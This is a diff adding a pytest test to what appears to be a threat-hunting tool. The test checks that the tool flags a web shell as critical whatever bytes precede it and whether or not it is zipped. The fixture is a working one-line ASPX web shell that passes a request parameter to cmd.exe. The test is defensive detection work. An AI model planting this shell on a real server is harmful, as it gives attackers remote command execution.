@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -111,3 +112,41 @@ def test_half_a_letter_in_a_command_does_not_hide_the_event(
     text = json.dumps(event, indent=indent).replace("ODD", odd)
     (tmp_path / "events.json").write_text(f"{text}\n{text}\n")
     assert "A web server started a shell or a tool" in _hunted(tmp_path, capsys)
+
+
+SHELL = (
+    b'<%@ Page Language="C#" %><script runat="server">void Page_Load(object s,EventArgs e)'
+    b'{System.Diagnostics.Process.Start("cmd.exe","/c "+Request["cmd"]);}</script>'
+)
+
+
+@pytest.mark.parametrize(
+    "top",
+    [
+        b"",
+        b"From a@b Mon Nov  1 10:00:00 2021\r\nFrom: a\r\nTo: b\r\nMessage-ID: <1@x>\r\n\r\n",
+        b"ElfFile\0",
+        b"7z\xbc\xaf\x27\x1c",
+        b'{"format":"tocsin-run"}\n',
+        b'{"tocsin":"export","version":1,"cmdlet":"x","items":[]}\n',
+        b"#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time cs-uri-stem\r\n",
+        b"<?xml version='1.0'?><nmaprun>",
+    ],
+)
+@pytest.mark.parametrize("packed", ["", "case.zip"])
+def test_a_web_shell_is_found_whatever_it_begins_with(
+    top: bytes, packed: str, tmp_path: Path, capsys
+):
+    """What stands before the code of a page is sent as it is; the server goes by the file's name."""
+    if packed and top.startswith(b"7z"):
+        pytest.skip("inside an archive it is taken for a damaged one, which is told")
+    if packed:
+        with zipfile.ZipFile(tmp_path / packed, "w") as archive:
+            archive.writestr("owa/auth/x.aspx", top + SHELL)
+            archive.writestr("y.aspx", SHELL)
+    else:
+        (tmp_path / "x.aspx").write_bytes(top + SHELL)
+    main(["hunt", "--lang", "en", "--workers", "1", "--format", "csv", str(tmp_path)])
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    for name in ("x.aspx", "y.aspx") if packed else ("x.aspx",):
+        assert [row for row in rows if name in row["evidence"] and row["level"] == "critical"]
